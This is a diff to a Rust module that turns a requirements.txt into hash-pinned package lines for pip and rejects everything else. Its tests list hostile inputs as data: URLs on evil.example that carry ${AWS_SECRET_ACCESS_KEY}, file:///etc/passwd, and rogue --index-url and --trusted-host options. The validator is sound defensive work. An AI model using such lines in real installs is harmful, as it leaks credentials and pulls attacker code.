@@ -1,30 +1,47 @@
-//! A layer's `requirements.txt`: what keeps it from meaning something else on another day or another machine.
+//! A layer's `requirements.txt`: what keeps it from meaning something else on another day or another machine, and pip from
+//! doing anything but fetching these packages.
+//!
+//! pip is never given the file itself, but what is understood of it here: a line that both read in a different way, a URL, an
+//! option or an environment variable (`${AWS_SECRET_ACCESS_KEY}`) does not reach it.
 
 use std::path::Path;
 
 use super::PackageError;
 
-/// Options that make the outcome depend on other files, or on building on this machine.
-const REFUSED: [&str; 7] = ["-c", "--constraint", "-e", "--editable", "--no-binary", "-r", "--requirement"];
+/// Options that change nothing about what is installed here.
+const TAKEN: [&str; 2] = ["--require-hashes", "--only-binary"];
 
-/// Refuses whatever is not pinned to the byte; `path` is what errors call the file.
-pub(super) fn check(path: &Path, text: &str) -> Result<(), PackageError> {
+/// The pinned packages of a file, a line each, as pip is given them; `path` is what errors call the file.
+///
+/// # Errors
+///
+/// Something is not pinned to the byte, or is not a package of an index.
+pub(super) fn locked(path: &Path, text: &str) -> Result<String, PackageError> {
+    let mut pinned = String::new();
     let mut unhashed = Vec::new();
     let mut conditional = Vec::new();
     for line in logical_lines(text) {
         if line.starts_with('-') {
-            if REFUSED.iter().any(|option| is_option(&line, option)) {
+            if !TAKEN.iter().any(|option| is_option(&line, option)) {
                 return Err(PackageError::RequirementsOption { path: path.to_owned(), line });
             }
             continue;
         }
         let (requirement, options) = line.split_once(" --").unwrap_or((&line, ""));
         let package = format!("`{}`", requirement.split(';').next().unwrap_or(requirement).trim());
-        if !format!("--{options}").contains("--hash=") {
+        let hashes = hashes(options);
+        if options.is_empty() || hashes.as_ref().is_some_and(Vec::is_empty) {
             unhashed.push(package);
-        } else if requirement.contains(';') {
-            conditional.push(package);
+            continue;
         }
+        if requirement.contains(';') {
+            conditional.push(package);
+            continue;
+        }
+        let (Some(hashes), Some(requirement)) = (hashes, exact(requirement)) else {
+            return Err(PackageError::NoPackage { path: path.to_owned(), line });
+        };
+        pinned.push_str(&format!("{requirement} {}\n", hashes.join(" ")));
     }
     if !unhashed.is_empty() {
         return Err(PackageError::Unhashed { path: path.to_owned(), packages: some_of(unhashed) });
@@ -32,7 +49,42 @@ pub(super) fn check(path: &Path, text: &str) -> Result<(), PackageError> {
     if !conditional.is_empty() {
         return Err(PackageError::Conditional { path: path.to_owned(), packages: some_of(conditional) });
     }
-    Ok(())
+    Ok(pinned)
+}
+
+/// `name==version` or `name[extra]==version`; `None` for a URL, a path, a range.
+fn exact(requirement: &str) -> Option<String> {
+    let (name, version) = requirement.split_once("==")?;
+    let (name, extras) = match name.trim().split_once('[') {
+        Some((name, extras)) => (name.trim(), Some(extras.strip_suffix(']')?)),
+        None => (name.trim(), None),
+    };
+    let version = version.trim();
+    let consists_of = |text: &str, others: &str| {
+        text.starts_with(|it: char| it.is_ascii_alphanumeric())
+            && text.chars().all(|it| it.is_ascii_alphanumeric() || others.contains(it))
+    };
+    let is_name = |text: &str| consists_of(text, "-._");
+    let are_names = extras.is_none_or(|extras| extras.split(',').all(|extra| is_name(extra.trim())));
+    let extras = extras.map(|extras| format!("[{extras}]")).unwrap_or_default();
+    (is_name(name) && are_names && consists_of(version, ".!+-_")).then(|| format!("{name}{extras}=={version}"))
+}
+
+/// The hashes of a requirement; `None` where there are other options too.
+fn hashes(options: &str) -> Option<Vec<String>> {
+    let is_hash = |value: &str| {
+        value.split_once(':').is_some_and(|(algorithm, digest)| {
+            ["sha256", "sha384", "sha512"].contains(&algorithm)
+                && !digest.is_empty()
+                && digest.chars().all(|it| it.is_ascii_hexdigit())
+        })
+    };
+    let options = options.split_whitespace().map(|option| option.trim_start_matches("--"));
+    let hash = |option: &str| {
+        let value = option.strip_prefix("hash=").filter(|value| is_hash(value))?;
+        Some(format!("--hash={value}"))
+    };
+    options.map(hash).collect()
 }
 
 /// Lines without comments, those that end in `\` joined with the next.
@@ -73,18 +125,26 @@ mod tests {
 
     use super::*;
 
+    fn pinned(text: &str) -> Result<String, PackageError> {
+        locked(Path::new("requirements.txt"), text)
+    }
+
     fn check_refused(text: &str, expected: Expect) {
-        expected.assert_eq(&check(Path::new("requirements.txt"), text).unwrap_err().to_string());
+        expected.assert_eq(&pinned(text).unwrap_err().to_string());
     }
 
     #[test]
     fn a_lock_file_with_a_hash_for_everything_is_taken() {
         let text = "\
             # written by a tool\n\
-            --index-url https://index.example/simple\n\
-            boto3==1.44.5 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via -r requirements.in\n\
+            --require-hashes\n\
+            boto3[crt,http] == 1.44.5 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via -r requirements.in\n\
             six==1.17.0 --hash=sha256:cc  # ; no condition\n";
-        check(Path::new("requirements.txt"), text).unwrap();
+        expect![[r"
+            boto3[crt,http]==1.44.5 --hash=sha256:aa --hash=sha256:bb
+            six==1.17.0 --hash=sha256:cc
+        "]]
+        .assert_eq(&pinned(text).unwrap());
     }
 
     #[test]
@@ -118,20 +178,56 @@ mod tests {
         check_refused(
             "-rbase.txt",
             expect![
-                "`requirements.txt` has the line `-rbase.txt`: a layer's packages are pinned in this one file, as wheels"
+                "`requirements.txt` has the line `-rbase.txt`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
             ],
         );
         check_refused(
             "--constraint=limits.txt",
             expect![
-                "`requirements.txt` has the line `--constraint=limits.txt`: a layer's packages are pinned in this one file, as wheels"
+                "`requirements.txt` has the line `--constraint=limits.txt`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
             ],
         );
         check_refused(
             "--no-binary :all:",
             expect![
-                "`requirements.txt` has the line `--no-binary :all:`: a layer's packages are pinned in this one file, as wheels"
+                "`requirements.txt` has the line `--no-binary :all:`: a layer's packages are pinned in this one file, as wheels of the index that pip is set up with (`PIP_INDEX_URL`, `pip.conf`)"
             ],
         );
+    }
+
+    #[test]
+    fn nothing_but_a_package_of_an_index_reaches_pip() {
+        for line in [
+            "six @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/six.whl --hash=sha256:aa",
+            "six @ file:///etc/passwd --hash=sha256:aa",
+            "./six-1.17.0.whl --hash=sha256:aa",
+            "https://evil.example/six-1.17.0.tar.gz --hash=sha256:aa",
+            "six==1.* --hash=sha256:aa",
+            "six>=1,==1.17.0 --hash=sha256:aa",
+            "six==${HOME} --hash=sha256:aa",
+            "six==1.17.0 --hash=sha256:aa --global-option=build_ext",
+            "six==1.17.0 --hash=sha256:aa --index-url=https://evil.example",
+            "six==1.17.0 --hash=md5:aa",
+            "six==1.17.0\t--index-url https://evil.example --hash=sha256:aa",
+            "git+https://evil.example/six@v1 --hash=sha256:aa",
+        ] {
+            let error = pinned(line).unwrap_err();
+            assert!(matches!(error, PackageError::NoPackage { .. }), "{line}: {error}");
+        }
+        for line in [
+            "--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}",
+            "-i https://evil.example",
+            "--extra-index-url=https://evil.example",
+            "--find-links .",
+            "-f .",
+            "--trusted-host evil.example",
+            "--pre",
+            "--editable .",
+            "-e .",
+            "--no-such-option",
+        ] {
+            let error = pinned(&format!("six==1.17.0 --hash=sha256:aa\n{line}")).unwrap_err();
+            assert!(matches!(error, PackageError::RequirementsOption { .. }), "{line}: {error}");
+        }
     }
 }
